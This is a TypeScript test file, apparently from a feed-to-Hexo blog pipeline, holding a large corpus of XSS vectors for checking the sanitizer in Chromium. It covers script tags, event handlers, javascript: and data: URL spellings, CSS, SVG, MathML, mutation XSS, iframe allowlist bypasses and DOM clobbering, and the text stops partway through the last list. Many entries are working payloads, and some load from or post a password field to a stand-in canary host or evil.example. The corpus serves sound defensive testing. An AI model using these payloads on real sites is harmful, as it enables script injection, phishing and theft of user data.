/**
 * The XSS corpus test/xss.test.ts runs through the whole pipeline (feed → sync → Hexo → Chromium).
 *
 * Every vector that "fires" does something the test watches for: a dialog (`alert('XSS:<id>')`), a console
 * line containing `XSS`, a request to the canary origin (`CANARY` in a vector, replaced by the test with a
 * loopback server's host:port), or a navigation. `$ID` in a vector stands for its own id.
 *
 * `where` says which part of the item carries the vector:
 * - content (default): the item's HTML, in `<description>`;
 * - title: the item's `<title>` text;
 * - image: the item's XML markup that names its picture (media:thumbnail, enclosure, …), written as is;
 * - link: the item's XML markup that names its link (`<link>`, a permalink `<guid>`), written as is.
 * `literal`, when set, is text the rendered post must show verbatim (template and Markdown syntax that must
 * not be interpreted).
 *
 * Plain images in vectors load `x` (resolved against the item link on news.example, where every request
 * fails), never the canary: a kept `<img src>` is no attack, but a kept `onerror` on it is.
 */

export interface XssVector {
  id: string;
  class: string;
  html: string;
  where?: 'content' | 'title' | 'image' | 'link';
  literal?: string;
}

type Template = string | ((id: string) => string);
type Entry = Template | { html: Template; literal?: string };

const ALERT = "alert('XSS:$ID')";
/** For single-quoted contexts. */
const ALERT_DQ = 'alert("XSS:$ID")';
const LOG = "console.log('XSS:$ID')";
const FETCH = "fetch('http://CANARY/$ID')";

const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
const scriptPage = (id: string) => `<script>alert('XSS:${id}')</script>`;
const scriptSvg = (id: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('XSS:${id}')"><script>alert('XSS:${id}')</script></svg>`;

function group(className: string, prefix: string, entries: Entry[], where?: XssVector['where']): XssVector[] {
  return entries.map((entry, index) => {
    const id = `${prefix}-${String(index + 1).padStart(2, '0')}`;
    const { html, literal } = typeof entry === 'object' ? entry : { html: entry, literal: undefined };
    const text = typeof html === 'function' ? html(id) : html;
    const vector: XssVector = { id, class: className, html: text.replaceAll('$ID', id) };
    if (where) vector.where = where;
    if (literal !== undefined) vector.literal = literal.replaceAll('$ID', id);
    return vector;
  });
}

// Script elements: case, whitespace inside the tag, unclosed and nested tags, script text that only
// looks like markup, scripts written as escaped text (which must stay text, never be decoded twice).
const SCRIPT_TAGS = group('script-tag', 'script', [
  `<script>${ALERT}</script>`,
  `<SCRIPT>${ALERT}</SCRIPT>`,
  `<ScRiPt>${ALERT}</sCrIpT>`,
  `<script >${ALERT}</script >`,
  `<script\n>${ALERT}</script\n>`,
  `<script\ttype="text/javascript">${ALERT}</script>`,
  `<script/xss>${ALERT}</script>`,
  '<script src="http://CANARY/$ID.js"></script>',
  '<script src=//CANARY/$ID.js></script>',
  `<script>${ALERT}`,
  `<p>x</p><script>${ALERT}</script`,
  `<scr<script>ipt>${ALERT}</scr</script>ipt>`,
  `<scr<script>x</script>ipt>${ALERT}</script>`,
  `<<script>script>${ALERT}<</script>/script>`,
  `<script type="module">${LOG}</script>`,
  `<script>/*</script><script>*/${ALERT}</script>`,
  `<script><!--<script>${ALERT}</script>--></script>`,
  `<p>before<script>${FETCH}</script>after</p>`,
  `<table><script>${ALERT}</script><tr><td>cell</td></tr></table>`,
  `<script for="window" event="onload">${ALERT}</script>`,
  `<script>document.write("<img src=x onerror=${ALERT}>")</script>`,
  `<script src="data:text/javascript,${ALERT}"></script>`,
  `<script src="javascript:${ALERT}"></script>`,
  `&lt;script&gt;${ALERT}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${ALERT}&amp;lt;/script&amp;gt;`,
  `<div><script\n\n>${ALERT}</script></div>`,
  '<SCRIPT SRC=http://CANARY/$ID.js?<B>',
  `<script>\n<!--\n${ALERT}\n//-->\n</script>`,
  `<IMG """><SCRIPT>${ALERT}</SCRIPT>">`,
  `</title><script>${ALERT}</script>`,
  `<ul><li>x<script>${ALERT}</script></li></ul>`,
  `<script>setTimeout(function(){${LOG}}, 0)</script>`,
]);

// Event handlers on every kind of element, with the spellings parsers accept: case, slashes and line
// breaks between attributes, entity-encoded handler code, duplicates, handlers that load or navigate.
const GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==';
const EVENT_HANDLERS = group('event-handler', 'handler', [
  `<img src=x onerror="${ALERT}">`,
  `<img src=x onerror=${ALERT}>`,
  `<IMG SRC=x ONERROR="${ALERT}">`,
  `<img src=x oNeRrOr="${ALERT}">`,
  `<img/src=x/onerror=${ALERT}>`,
  `<img src=x onerror\n=\n"${ALERT}">`,
  `<img src="x" onerror  =  '${ALERT_DQ}'>`,
  `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;('XSS:$ID')">`,
  `<img src=x onerror="&#x61;lert&#x28;'XSS:$ID'&#x29;">`,
  `<img src=x onerror=${LOG} onerror=${ALERT}>`,
  `<img src="${GIF}" onload="${ALERT}">`,
  `<img src="data:image/png;base64,AAAA" onerror="${ALERT}">`,
  `<img src=x:alert(alt) onerror=eval(src) alt="'XSS:$ID'">`,
  "<img src=x onerror=import('http://CANARY/$ID.js')>",
  `<img src=x onerror="location='http://CANARY/$ID'">`,
  `<img src=x onerror=${FETCH}>`,
  `<body onload="${ALERT}">`,
  `<body onpageshow="${ALERT}"><p>b</p>`,
  `<svg onload="${ALERT}">`,
  `<svg/onload=${ALERT}>`,
  `<details open ontoggle="${ALERT}"><summary>s</summary>d</details>`,
  `<details ontoggle=${ALERT}><summary>s</summary>d</details>`,
  `<video src=x onerror="${ALERT}"></video>`,
  `<video><source src=x onerror="${ALERT}"></video>`,
  `<audio src=x onerror="${ALERT}"></audio>`,
  `<video src=x onloadstart="${ALERT}"></video>`,
  `<audio src=x onloadstart=${ALERT} autoplay></audio>`,
  `<video poster=x onerror=${ALERT} autoplay muted></video>`,
  `<marquee onstart="${ALERT}">m</marquee>`,
  `<marquee behavior=alternate onbounce=${ALERT}>m</marquee>`,
  `<input autofocus onfocus="${ALERT}">`,
  `<select autofocus onfocus=${ALERT}></select>`,
  `<textarea autofocus onfocus=${ALERT}></textarea>`,
  `<keygen autofocus onfocus=${ALERT}>`,
  `<div contenteditable autofocus onfocus=${ALERT}>e</div>`,
  `<a tabindex=1 onfocus=${ALERT}>f</a>`,
  `<p onmouseover="${ALERT}">hover</p>`,
  `<a href="https://news.example/" onmouseover=${ALERT}>link</a>`,
  `<div onclick="${ALERT}">click</div>`,
  `<span onmouseenter=${ALERT}>s</span>`,
  `<b onpointerover=${ALERT}>b</b>`,
  `<h1 onanimationstart=${ALERT} style="animation:probe 1s">h</h1>`,
  `<table onclick=${ALERT}><tr><td onmouseover=${ALERT}>c</td></tr></table>`,
  `<ul><li onclick=${ALERT}>l</li></ul>`,
  `<blockquote onmouseover=${ALERT}>q</blockquote>`,
  `<pre onfocus=${ALERT} tabindex=0>p</pre>`,
  `<code oncopy=${ALERT}>c</code>`,
  `<h2 onwheel=${ALERT}>w</h2>`,
  `<figure onmouseenter=${ALERT}><figcaption ontouchstart=${ALERT}>f</figcaption></figure>`,
  `<time ondblclick=${ALERT}>t</time>`,
  `<abbr ondragstart=${ALERT} draggable=true>d</abbr>`,
  `<ol onkeydown=${ALERT}><li>k</li></ol>`,
  `<mark onpointerdown=${ALERT}>m</mark>`,
  `<sub onmousedown=${ALERT}>s</sub><sup onmouseup=${ALERT}>s</sup>`,
  `<section oninput=${ALERT} contenteditable>i</section>`,
  `<picture><source srcset=x onerror=${ALERT}><img src=x onerror=${ALERT}></picture>`,
  `<video><track src=x onerror=${ALERT} default></video>`,
  `<iframe src="https://www.youtube.com/embed/x" onload="${ALERT}"></iframe>`,
  `<xss onfocus=${ALERT} autofocus tabindex=1>custom</xss>`,
  `<x onclick=${ALERT}>x</x>`,
  `<img src=x onerror=window['al'+'ert']('XSS:$ID')>`,
  `<img src=x onerror=top[/al/.source+/ert/.source]('XSS:$ID')>`,
  `<img src onerror=${ALERT}>`,
  `<img src="x" onerror="${ALERT}"/>`,
  `<p>x</p><img src=x onerror=${ALERT}//`,
  `<img src=x onerror="javascript:${ALERT}">`,
  `<button onclick=${ALERT}>b</button>`,
  `<div onscroll=${ALERT} style="overflow:auto;height:10px"><br><br><br></div>`,
  `<details><summary onclick=${ALERT}>s</summary>d</details>`,
  `<dl onfocusin=${ALERT}><dt tabindex=0>d</dt><dd>e</dd></dl>`,
  `<q onauxclick=${ALERT}>q</q><ruby oncontextmenu=${ALERT}>r<rt>t</rt></ruby>`,
  `<p\nonclick=${ALERT}>line break before the handler</p>`,
  `<a href="https://news.example/"\n\nonclick=${ALERT}>blank line inside the tag</a>`,
  `<div/title="x"/onclick=${ALERT}>slashes</div>`,
  `<image src=x onerror=${ALERT}>`,
]);

// javascript:, vbscript: and data: URLs. First every spelling of the scheme a browser still reads as
// javascript: (case, entities with and without semicolons, tab/newline/CR inside, leading spaces and
// control characters, named entities), each in an <iframe src> — which runs at once — and an <a href>;
// then every attribute that takes a URL.
const JAVASCRIPT_SPELLINGS = [
  'javascript:',
  'JaVaScRiPt:',
  'JAVASCRIPT:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#X6a;avascript:',
  'jav&#x09;ascript:',
  'jav&#x0A;ascript:',
  'jav&#x0D;ascript:',
  'jav\tascript:',
  'java\nscript:',
  '   javascript:',
  '&#x01;&#x02;&#x1F; javascript:',
  '&#14;javascript:',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3a;',
  'j&Tab;avascript:',
  'java&NewLine;script:',
  'javascript:/**/',
  'javascript://%0a',
  '&#x20;&#x0C;javascript:',
];
const URL_SCHEMES = group('url-scheme', 'url', [
  ...JAVASCRIPT_SPELLINGS.map((scheme) => `<iframe src="${scheme}${ALERT}"></iframe>`),
  ...JAVASCRIPT_SPELLINGS.map((scheme) => `<a href="${scheme}${ALERT}">link</a>`),
  `<a href="javascript:%61lert('XSS:$ID')">percent-encoded code</a>`,
  `<img src="javascript:${ALERT}">`,
  `<img srcset="javascript:${ALERT} 1x">`,
  `<img src=x srcset="javascript:${ALERT} 2x, x 1x">`,
  `<picture><source srcset="javascript:${ALERT}"><img src=x></picture>`,
  `<video poster="javascript:${ALERT}"></video>`,
  `<video src="javascript:${ALERT}"></video>`,
  `<audio src="javascript:${ALERT}"></audio>`,
  `<video><source src="javascript:${ALERT}"></video>`,
  `<video><track src="javascript:${ALERT}" default></video>`,
  `<form action="javascript:${ALERT}"><p>f</p></form>`,
  `<button formaction="javascript:${ALERT}">b</button>`,
  `<table background="javascript:${ALERT}"><tr><td background="javascript:${ALERT}">c</td></tr></table>`,
  `<body background="javascript:${ALERT}">`,
  `<svg><a xlink:href="javascript:${ALERT}"><text x="10" y="20">svg link</text></a></svg>`,
  `<a xlink:href="javascript:${ALERT}">html link with xlink:href</a>`,
  `<object data="javascript:${ALERT}"></object>`,
  `<embed src="javascript:${ALERT}">`,
  `<map name="m"><area href="javascript:${ALERT}" shape="default"></map><img src=x usemap="#m">`,
  `<blockquote cite="javascript:${ALERT}">q</blockquote>`,
  `<q cite="javascript:${ALERT}">q</q><del cite="javascript:${ALERT}">d</del><ins cite="javascript:${ALERT}">i</ins>`,
  `<img src=x longdesc="javascript:${ALERT}">`,
  `<img lowsrc="javascript:${ALERT}" dynsrc="javascript:${ALERT}" src=x>`,
  `<a href="https://news.example/" ping="javascript:${ALERT}">ping</a>`,
  `<math href="javascript:${ALERT}"><mi>x</mi></math>`,
  `<a href="vbscript:msgbox('XSS:$ID')">vb</a>`,
  `<iframe src="VBSCRIPT:msgbox('XSS:$ID')"></iframe>`,
  `<img src="vbscript:msgbox('XSS:$ID')">`,
  (id) => `<a href="data:text/html;base64,${base64(scriptPage(id))}">data link</a>`,
  (id) => `<iframe src="data:text/html;base64,${base64(scriptPage(id))}"></iframe>`,
  `<iframe src="data:text/html,<script>${ALERT}</script>"></iframe>`,
  `<iframe src=" DATA:text/html,<script>${ALERT}</script>"></iframe>`,
  (id) => `<iframe src="data:image/svg+xml;base64,${base64(scriptSvg(id))}"></iframe>`,
  (id) => `<img src="data:image/svg+xml;base64,${base64(scriptSvg(id))}">`,
  `<img src="data:text/html,<script>${ALERT}</script>">`,
  (id) => `<video poster="data:image/svg+xml;base64,${base64(scriptSvg(id))}"></video>`,
  `<img src=x srcset="data:text/html,<script>${ALERT}</script> 2x">`,
  `<a href="data:text/html,<script>${ALERT}</script>">data link</a>`,
  (id) => `<embed src="data:text/html;base64,${base64(scriptPage(id))}">`,
  `<a href="&#x6A;avascript&colon;${ALERT}" title="&lt;script&gt;">entities everywhere</a>`,
  `<a href="jaVasCript:/*-/*\`/*\\\`/*'/*&quot;/**/(/* */oNcliCk=${ALERT} )//">polyglot</a>`,
]);

// CSS: style attributes with script (expression, url(javascript:), -moz-binding, behavior) or loads, and
// style elements that import or load; CSS escapes and entities inside the value.
const CSS = group('css', 'css', [
  `<p style="background:url(javascript:${ALERT})">c</p>`,
  `<p style="width:expression(${ALERT})">c</p>`,
  '<p style="-moz-binding:url(http://CANARY/$ID.xml#xss)">c</p>',
  '<p style="background-image:url(\'http://CANARY/$ID.png\')">c</p>',
  '<p style="behavior:url(http://CANARY/$ID.htc)">c</p>',
  "<style>@import 'http://CANARY/$ID.css';</style><p>c</p>",
  '<style>@import url("http://CANARY/$ID.css");</style><p>c</p>',
  '<style>body{background:url(http://CANARY/$ID.png)}</style><p>c</p>',
  '<STYLE>li{list-style-image:url("http://CANARY/$ID.png")}</STYLE><ul><li>x</li></ul>',
  '<style>@font-face{font-family:p;src:url(http://CANARY/$ID.woff)}p{font-family:p}</style><p>x</p>',
  '<div style="background:url(&#x27;http://CANARY/$ID.png&#x27;)">x</div>',
  '<div style="back\\67 round:url(http://CANARY/$ID.png)">css escape</div>',
  '<div style="background:u\\72 l(http://CANARY/$ID.png)">css escape</div>',
  '<div style="content:url(http://CANARY/$ID.png)">x</div>',
  '<div style="background:image-set(\'http://CANARY/$ID.png\' 1x)">x</div>',
  '<div style="cursor:url(http://CANARY/$ID.cur),auto">x</div>',
  '<div style="mask-image:url(http://CANARY/$ID.svg)">x</div>',
  `<style>/*</style><img src=x onerror=${ALERT}>*/</style>`,
  `<style><img src=x onerror=${ALERT}></style>`,
  '<style type="text/css">*{background:url(http://CANARY/$ID.png)}</style ><p>x</p>',
  `<img src=x style="x:expression(${ALERT})">`,
  '<div style="--probe:url(http://CANARY/$ID.png);background:var(--probe)">x</div>',
  "<svg><style>@import 'http://CANARY/$ID.css';</style></svg>",
  "<math><style>@import 'http://CANARY/$ID.css';</style></math>",
  '<div style="background:url(http://CANARY/$ID.png" title="unclosed">x</div>',
  '<p style="position:fixed;inset:0;z-index:2147483647;background:red">covers the page</p>',
  '<p STYLE="background:url(http://CANARY/$ID.png)">upper-case attribute</p>',
  '<p style="background:url(http://CANARY/$ID.png)" style="color:red">duplicate style</p>',
]);

// Elements that change the page itself: <base> (every relative URL after it), <meta> refresh and
// headers, and <link> (stylesheets, imports, preloads, icons).
const BASE_META_LINK = group('base-meta-link', 'head', [
  '<base href="http://CANARY/$ID/">',
  '<BASE HREF="http://CANARY/">',
  `<base href="javascript:${ALERT}//">`,
  '<base target="_blank" href="http://CANARY/">',
  '<meta http-equiv="refresh" content="0;url=http://CANARY/$ID">',
  `<meta http-equiv="refresh" content="0;url=javascript:${ALERT}">`,
  (id) => `<meta http-equiv="refresh" content="0; URL=data:text/html;base64,${base64(scriptPage(id))}">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;URL=http://;URL=javascript:${ALERT}">`,
  '<meta http-equiv="Set-Cookie" content="probe=$ID">',
  '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
  '<meta name="referrer" content="unsafe-url">',
  '<link rel="import" href="http://CANARY/$ID.html">',
  '<link rel="stylesheet" href="http://CANARY/$ID.css">',
  `<link rel="stylesheet" href="javascript:${ALERT}">`,
  '<link rel="preload" as="script" href="http://CANARY/$ID.js">',
  '<link rel="prefetch" href="http://CANARY/$ID">',
  '<link rel="modulepreload" href="http://CANARY/$ID.js">',
  '<link rel="icon" href="http://CANARY/$ID.ico">',
  '<link rel="stylesheet" href="data:text/css,*{background:url(http://CANARY/$ID.png)}">',
  '<link rel="preconnect" href="http://CANARY/">',
  '<head><base href="http://CANARY/"></head><p>x</p>',
  '<html><head><meta http-equiv="refresh" content="0;url=http://CANARY/$ID"></head><body><p>x</p></body></html>',
  '<link rel="manifest" href="http://CANARY/$ID.json">',
  '<p>x</p><LINK REL="stylesheet" HREF="http://CANARY/$ID.css">',
]);

// Plugins and nested documents.
const OBJECT_EMBED = group('object-embed', 'object', [
  '<object data="http://CANARY/$ID.swf" type="application/x-shockwave-flash"></object>',
  (id) => `<object data="data:text/html;base64,${base64(scriptPage(id))}"></object>`,
  '<object type="text/html" data="http://CANARY/$ID.html"></object>',
  '<embed src="http://CANARY/$ID.swf">',
  (id) => `<embed src="data:image/svg+xml;base64,${base64(scriptSvg(id))}" type="image/svg+xml">`,
  '<applet code="Probe.class" codebase="http://CANARY/$ID/"></applet>',
  `<object><param name="src" value="javascript:${ALERT}"><embed src="http://CANARY/$ID"></object>`,
  '<object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000" codebase="http://CANARY/$ID.cab"></object>',
  '<portal src="http://CANARY/$ID"></portal>',
  '<OBJECT DATA="http://CANARY/$ID.svg" TYPE="image/svg+xml"></OBJECT>',
  '<embed code="http://CANARY/$ID.swf" allowscriptaccess="always">',
  `<object data="http://CANARY/$ID.html"><p>fallback<img src=x onerror=${ALERT}></p></object>`,
]);

// Frames: srcdoc, hosts that only look allowlisted (userinfo, backslash, suffixes), sandbox and handler
// attributes on allowlisted players, and frames that are not iframes.
const IFRAMES = group('iframe', 'iframe', [
  `<iframe srcdoc="<script>${ALERT}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${ALERT}&gt;"></iframe>`,
  '<iframe src="http://CANARY/$ID"></iframe>',
  '<iframe src="https://evil.example/$ID"></iframe>',
  '<iframe src="https://www.youtube.com@CANARY/$ID"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/$ID"></iframe>',
  '<iframe src="//CANARY/$ID#https://www.youtube.com/embed/x"></iframe>',
  '<iframe src="http://CANARY\\@www.youtube.com/embed/$ID"></iframe>',
  `<iframe src="https://www.youtube.com/embed/x?v=javascript:${ALERT}"></iframe>`,
  '<iframe src="https://player.vimeo.com/video/1" sandbox="allow-scripts allow-top-navigation allow-popups allow-popups-to-escape-sandbox allow-forms"></iframe>',
  `<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>${ALERT}</script>"></iframe>`,
  `<frameset><frame src="javascript:${ALERT}"></frameset>`,
  '<frame src="http://CANARY/$ID">',
  `<iframe/src="javascript:${ALERT}">`,
  `<iframe src="https://player.youku.com/embed/x" onload="${ALERT}" srcdoc="x"></iframe>`,
  `<iframe src="HTTPS://WWW.YOUTUBE.COM/embed/x" onmouseover=${ALERT}></iframe>`,
  '<iframe src="https://www.youtube.com:443@CANARY/$ID"></iframe>',
  `<iframe src="https://www.youtube.com/embed/x"><img src=x onerror=${ALERT}></iframe>`,
  `<iframe src="https://www.youtube.com/embed/x"></iframe><iframe src="javascript:${ALERT}"></iframe>`,
  '<iframe src="https://player.bilibili.com/player.html?bvid=x" style="position:fixed;inset:0;z-index:9999"></iframe>',
  `<iframe src="https://v.qq.com/txp/iframe/player.html?vid=x" allow="camera; microphone; geolocation" name="probeSettings"></iframe>`,
  '<iframe src="http://CANARY/$ID" width="0" height="0" style="display:none"></iframe>',
  `<iframe src="https://www.youtube.com/embed/x" sandbox="allow-scripts allow-same-origin" srcdoc="<img src=x onerror=${ALERT}>"></iframe>`,
  '<IFRAME SRC="https://evil.example/www.youtube.com/embed/$ID"></IFRAME>',
]);

// Forms and their controls: actions and formactions, image inputs, autofocus that submits.
const FORMS = group('form', 'form', [
  `<form action="javascript:${ALERT}"><input type="submit" value="go"></form>`,
  `<form><button formaction="javascript:${ALERT}">go</button></form>`,
  '<form action="http://CANARY/$ID" method="post"><input name="password" type="password"><input type="submit"></form>',
  `<form id="probe-form"></form><button form="probe-form" formaction="javascript:${ALERT}">x</button>`,
  '<input type="image" src="http://CANARY/$ID.png">',
  `<input type="image" src=x formaction="javascript:${ALERT}">`,
  `<isindex type="image" src="http://CANARY/$ID.png" action="javascript:${ALERT}">`,
  `<form><input type="submit" formaction="javascript:${ALERT}" value="x"></form>`,
  `<button autofocus onfocus=${ALERT}>b</button>`,
  `<form onsubmit="${ALERT}"><input type=submit></form>`,
  `<select onchange="${ALERT}"><option>a</option></select>`,
  '<form action="http://CANARY/$ID"><input name=q value=x autofocus onfocus="this.form.submit()"></form>',
  `<label>l<input type=checkbox onchange=${ALERT}></label>`,
  '<form method="get" action="http://CANARY/$ID"><p>Sign in again</p><input name="user"></form>',
]);

// SVG: scripts, javascript: links set directly or by animation, foreignObject and the other HTML
// integration points, external and data: <use>/<image>, CDATA, and elements that break out of SVG.
const SVG = group('svg', 'svg', [
  `<svg><script>${ALERT}</script></svg>`,
  '<svg><script href="http://CANARY/$ID.js"/></svg>',
  `<svg><script xlink:href="data:,${ALERT}"></script></svg>`,
  `<svg><a href="javascript:${ALERT}"><rect width="100" height="100"/></a></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${ALERT}"/><text x="10" y="20">x</text></a></svg>`,
  `<svg><a><set attributeName="href" to="javascript:${ALERT}"/><text x="10" y="20">x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${ALERT}"/></svg>`,
  `<svg><animate onbegin="${ALERT}" attributeName="x" dur="1s"/></svg>`,
  `<svg><foreignObject><img src="x" onerror="${ALERT}"></foreignObject></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${ALERT}</script>"></iframe></foreignObject></svg>`,
  (id) => `<svg><use href="data:image/svg+xml;base64,${base64(scriptSvg(id))}#p"/></svg>`,
  '<svg><use xlink:href="http://CANARY/$ID.svg#p"/></svg>',
  '<svg><image href="http://CANARY/$ID.png"/></svg>',
  '<svg><filter id="f"><feImage href="http://CANARY/$ID.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
  `<svg><desc><img src="x" onerror="${ALERT}"></desc></svg>`,
  `<svg><title><img src="x" onerror="${ALERT}"></title></svg>`,
  `<svg><p><img src="x" onerror="${ALERT}"></p></svg>`,
  `<svg><![CDATA[><img src=x onerror=${ALERT}>]]></svg>`,
  `<svg><style><img src=x onerror="${ALERT}"></style></svg>`,
  `<svg><x:script xmlns:x="http://www.w3.org/2000/svg">${ALERT}</x:script></svg>`,
  `<p>x</p><svg onload=${ALERT}//`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${ALERT}</handler></svg>`,
  `<svg><animate xlink:href="#probe-a" attributeName="href" values="javascript:${ALERT}"/><a id="probe-a"><circle r="40"/></a></svg>`,
  `<svg><iframe src="javascript:${ALERT}"></iframe></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="javascript:${ALERT}"/></svg>`,
  `<svg><discard onbegin=${ALERT}></discard></svg>`,
  `<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="&#106;avascript:${ALERT}"><circle r="40"/></a></svg>`,
  `<SVG><SCRIPT>${ALERT}</SCRIPT></SVG>`,
]);

// MathML: the parser-confusion gadgets (mglyph/malignmark in mtext, annotation-xml encodings, style
// inside foreign content) and javascript: links on MathML elements.
const MATHML = group('mathml', 'math', [
  `<math><mtext><table><mglyph><style><img src=x onerror="${ALERT}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror='${ALERT_DQ}'>"></style></h1>`,
  `<math><mi xlink:href="javascript:${ALERT}">x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${ALERT}">m<mtext>t</mtext></maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${ALERT}"></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror="${ALERT}"></style></annotation-xml></math>`,
  `<math><mtext><img src=x onerror="${ALERT}"></mtext></math>`,
  `<math><mglyph><svg><mtext><textarea><path id="</textarea><img onerror='${ALERT_DQ}' src=x>"></textarea></mtext></svg></mglyph></math>`,
  `<math><semantics><annotation-xml encoding="text/html"><script>${ALERT}</script></annotation-xml></semantics></math>`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror='${ALERT_DQ}'>">`,
  `<math><mtext><form><mglyph><style></math><img src=x onerror="${ALERT}">`,
  `<math><mi//xlink:href="data:x,<script>${ALERT}</script>">x</mi></math>`,
  `<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img src=x onerror='${ALERT_DQ}'>">`,
  `<math><a xlink:href="javascript:${ALERT}">m</a></math>`,
  `<math><ms><img src=x onerror=${ALERT}></ms></math>`,
  `<math><malignmark><style><img src=x onerror=${ALERT}></style></malignmark></math>`,
]);

// Mutation XSS: markup that is inert as first parsed but becomes live when serialized and parsed again
// (raw-text elements, comments, bogus comments, CDATA, namespace changes), and markup hidden in text
// and attribute values that must stay there.
const MUTATION = group('mutation', 'mxss', [
  `<noscript><p title="</noscript><img src=x onerror=${ALERT}>"></noscript>`,
  `<p title="</noscript><img src=x onerror=${ALERT}>">t</p>`,
  `<svg></p><style><a title="</style><img src=x onerror=${ALERT}>"></style></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${ALERT}>`,
  `<!--<img src=x onerror=${ALERT}>-->`,
  `<!--><img src=x onerror=${ALERT}>-->`,
  `<!---><img src=x onerror=${ALERT}>-->`,
  `<!-- --!><img src=x onerror=${ALERT}>-->`,
  `<!--a--!><img src=x onerror=${ALERT}>`,
  `<? ><img src=x onerror=${ALERT} ?>`,
  `<!x><img src=x onerror=${ALERT}>`,
  `</x ><img src=x onerror=${ALERT}>`,
  `<title><img src=x onerror=${ALERT}></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${ALERT}>"></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${ALERT}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${ALERT}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${ALERT}>"></noframes>`,
  `<iframe><p title="</iframe><img src=x onerror=${ALERT}>"></iframe>`,
  `<plaintext><img src=x onerror=${ALERT}>`,
  `<style><p title="</style><img src=x onerror=${ALERT}>"></style>`,
  `<script><p title="</script><img src=x onerror=${ALERT}>"></script>`,
  `<![CDATA[><img src=x onerror=${ALERT}>]]>`,
  `<div><![CDATA[</div><script>${ALERT}</script>]]></div>`,
  `<img alt="<x" title="/><img src=x onerror=${ALERT}>">`,
  `<img src=\`x\` onerror=\`${ALERT}\`>`,
  `<a href="https://news.example/" title="&quot;&gt;&lt;img src=x onerror=${ALERT}&gt;">t</a>`,
  `<svg><foreignobject><p><style><img src=x onerror=${ALERT}></style></p></foreignobject></svg>`,
  `<table><td><svg><style><img src=x onerror=${ALERT}></style></svg></td></table>`,
  `<select><template><style><img src=x onerror=${ALERT}></style></template></select>`,
  `<listing>&lt;img src=x onerror=${ALERT}&gt;</listing>`,
  `<noscript><img src=x onerror=${ALERT}></noscript>`,
  `<p>&lt;img src=x onerror=${ALERT}&gt;</p>`,
  `<div><p title="--&gt;&lt;img src=x onerror=${ALERT}&gt;">c</p></div>`,
  `<a href="https://news.example/" title="</a><img src=x onerror=${ALERT}>">t</a>`,
  `<svg><style>&lt;img src=x onerror=${ALERT}&gt;</style></svg>`,
  `<math><style><img src=x onerror=${ALERT}></style></math>`,
  `<xmp><img src=x onerror=${ALERT}></xmp>`,
  `<textarea><img src=x onerror=${ALERT}></textarea>`,
  `<div>&lt;/div&gt;&lt;script&gt;${ALERT}&lt;/script&gt;</div>`,
  `<svg><![CDATA[</svg><img src=x onerror=${ALERT}>]]></svg>`,
  `<math><![CDATA[</math><img src=x onerror=${ALERT}>]]></math>`,
  `<pre>&lt;/pre&gt;&lt;img src=x onerror=${ALERT}&gt;</pre>`,
  `<p title="&#x3C;img src=x onerror=${ALERT}&#x3E;">hex references in an attribute</p>`,
  `<table><tr><td>c</td></tr><img src=x onerror=${ALERT}></table>`,
  `<a href="https://news.example/"><table><a href="https://news.example/"><img src=x onerror=${ALERT}></a></table></a>`,
  `<p><svg><foreignObject><p>inside</p></foreignObject></svg><img src=x onerror=${ALERT}></p>`,
]);

// <template>: its content is inert only while it stays in a template; unwrapped it would run.
const TEMPLATES = group('template', 'template', [
  `<template><script>${ALERT}</script></template>`,
  `<template><img src=x onerror=${ALERT}></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror=${ALERT}></template></div>`,
  `<div><template shadowroot="open"><slot></slot><img src=x onerror=${ALERT}></template>c</div>`,
  `<template><template><style></style><img src=x onerror=${ALERT}></template></template>`,
  `<table><template><tr><td><img src=x onerror=${ALERT}></td></tr></template></table>`,
  `<template id="probe-template"><img src=x onerror=${ALERT}></template><div>x</div>`,
  `<template><p title="</template><img src=x onerror=${ALERT}>"></p></template>`,
]);

// DOM clobbering: ids and names that would shadow the page's own globals, document properties or
// elements. The probe theme checks `window.probeSettings`, document's methods and #probe-footer after
// the content and logs `XSS:clobbered …` when any of them changed.
const DOM_CLOBBERING = group('dom-clobbering', 'clobber', [
  '<a id="probeSettings" href="http://CANARY/$ID">c</a>',
  '<img name="probeSettings" src=x>',
  '<form name="probeSettings"><input name="url" value="http://CANARY/$ID"></form>',
  '<form name="getElementById"></form>',
